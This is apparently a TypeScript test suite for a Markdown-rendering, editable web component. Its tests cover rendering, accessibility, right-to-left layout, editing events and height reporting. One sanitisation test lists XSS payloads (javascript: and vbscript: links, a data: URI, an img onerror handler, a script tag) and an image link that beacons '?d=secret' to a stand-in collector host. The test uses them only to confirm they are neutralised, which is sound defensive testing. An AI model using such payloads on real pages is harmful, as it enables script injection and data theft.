import { expect } from 'chai';
import { html } from 'lit';
import { defineElement } from '../shared/define-element.ts';
import { expectAccessible } from '../testing/expect-accessible.ts';
import { cleanUp, fixture, nextEvent, until } from '../testing/fixture.ts';
import { hostileTexts } from '../testing/hostile-texts.ts';
import { moveCaret } from './move-caret.ts';
import { InsetText } from './text.ts';

defineElement('inset-text', InsetText);

const sample = `# Revenue

Sales **fell** in *May*, see [the report](https://example.com/r).

1. one
2. two

| a | b |
| :- | -: |
| 1 | 2 |

\`code\` and

    block
`;

async function shown(text: string): Promise<InsetText> {
  return fixture<InsetText>(html`<inset-text .text=${text}></inset-text>`);
}

describe('inset-text', () => {
  // What shows Markdown is fetched once a page, with the first text.
  before(async () => {
    const first = await shown('**ready**');
    await until(() => first.shadowRoot!.querySelector('strong'));
    cleanUp();
  });
  afterEach(cleanUp);

  it('is accessible, shown and edited', async () => {
    const element = await shown(sample);
    await until(() => element.shadowRoot!.querySelector('h2'));
    await expectAccessible(element);
    element.editable = true;
    await element.edit();
    await expectAccessible(element);
  });

  it('shows Markdown as elements', async () => {
    const root = (await shown(sample)).shadowRoot!;
    await until(() => root.querySelector('h2'));
    expect(root.querySelector('h2')!.textContent).to.equal('Revenue');
    expect(root.querySelector('strong')!.textContent).to.equal('fell');
    expect(root.querySelectorAll('ol > li').length).to.equal(2);
    expect(root.querySelector('td.right')!.textContent).to.equal('2');
    expect(root.querySelector('pre')!.textContent).to.equal('block\n');
    const link = root.querySelector('a')!;
    expect(link.href).to.equal('https://example.com/r');
    expect(link.rel.split(' ')).to.include.members(['noopener', 'noreferrer']);
  });

  it('reads words of another direction in their own, on the side of the page', async () => {
    const wrapper = await fixture<HTMLElement>(
      html`<div dir="rtl" style="width: 600px">
        <inset-text .text=${'# Title\n\nIt ends here.'}></inset-text>
      </div>`,
    );
    const text = wrapper.querySelector<InsetText>('inset-text')!;
    const paragraph = await until(() => text.shadowRoot!.querySelector('p'));
    const lettersOf = (from: number): DOMRect => {
      const words = document.createTreeWalker(paragraph, NodeFilter.SHOW_TEXT).nextNode() as Text;
      const range = document.createRange();
      range.setStart(words, from < 0 ? words.length + from : from);
      range.setEnd(words, (from < 0 ? words.length + from : from) + 1);
      return range.getBoundingClientRect();
    };
    expect(lettersOf(-1).left).to.be.greaterThan(lettersOf(0).left);
    expect(lettersOf(-1).right).to.be.closeTo(text.getBoundingClientRect().right, 2);
  });

  it('lets no text become code, an address or a request', async () => {
    const texts = [
      ...hostileTexts,
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt&colon;alert(1))',
      '[x](vbscript:1) [y](data:text/html,<script>1</script>) <javascript:alert(1)>',
      '![x](https://collector.example/?d=secret)',
      '<img src=x onerror=alert(1)> <script>alert(1)</script>',
      '[a]: javascript:alert(1)\n\n[a]',
    ];
    for (const text of texts) {
      const root = (await shown(text)).shadowRoot!;
      expect(
        root.querySelectorAll('img, script, iframe, object, svg, style:not([data-x])').length,
        text,
      ).to.equal(0);
      for (const link of root.querySelectorAll('a')) {
        expect(['http:', 'https:', 'mailto:'], text).to.include(link.protocol);
      }
      for (const element of root.querySelectorAll('.shown *')) {
        for (const name of element.getAttributeNames()) expect(name.startsWith('on'), text).to.equal(false);
      }
    }
  });

  it('is edited in place: typing tells, leaving shows the result', async () => {
    const element = await shown('Hello');
    element.editable = true;
    element.plain = true;
    await element.updateComplete;
    element.shadowRoot!.querySelector('.shown')!.dispatchEvent(new MouseEvent('dblclick', { bubbles: true }));
    const area = await until(() => element.shadowRoot!.querySelector('textarea'));
    expect(area.value).to.equal('Hello');
    const change = nextEvent<{ text: string }>(element, 'inset-text-change');
    area.value = 'Hello **you**';
    area.dispatchEvent(new InputEvent('input', { bubbles: true }));
    expect((await change).detail.text).to.equal('Hello **you**');
    const end = nextEvent(element, 'inset-text-edit-end');
    area.dispatchEvent(new FocusEvent('blur'));
    await end;
    await element.updateComplete;
    expect(element.shadowRoot!.querySelector('strong')!.textContent).to.equal('you');
  });

  it('keeps the caret at its words while somebody else writes', async () => {
    const element = await shown('one two');
    element.editable = true;
    element.plain = true;
    await element.edit();
    const area = element.shadowRoot!.querySelector('textarea')!;
    area.setSelectionRange(4, 7);
    element.text = 'zero one two';
    await element.updateComplete;
    expect(area.value.slice(area.selectionStart, area.selectionEnd)).to.equal('two');
    expect(moveCaret('abc', 'xabc', [2, 2])).to.deep.equal([3, 3]);
    expect(moveCaret('abc', 'abcx', [2, 3])).to.deep.equal([2, 3]);
  });

  it('cannot be edited unless it may', async () => {
    const element = await shown('Hello');
    await element.edit();
    await element.updateComplete;
    expect(element.shadowRoot!.querySelector('textarea')).to.equal(null);
  });

  it('tells the height that its words need, as they and its width change', async () => {
    const heights: number[] = [];
    const note = (event: HTMLElementEventMap['inset-text-fit']): void =>
      void heights.push(event.detail.height);
    const element = await shown('word '.repeat(60));
    element.addEventListener('inset-text-fit', note);
    element.style.width = '400px';
    await until(() => heights.length > 0);
    const words = element.shadowRoot!.querySelector<HTMLElement>('.words')!;
    expect(heights.at(-1)).to.equal(words.offsetHeight);
    const wide = heights.at(-1)!;
    element.style.cssText = 'width: 160px; height: 20px';
    await until(() => heights.at(-1)! > wide);
    element.text = 'word';
    await until(() => heights.at(-1)! < wide || heights.at(-1) === words.offsetHeight);
  });
});
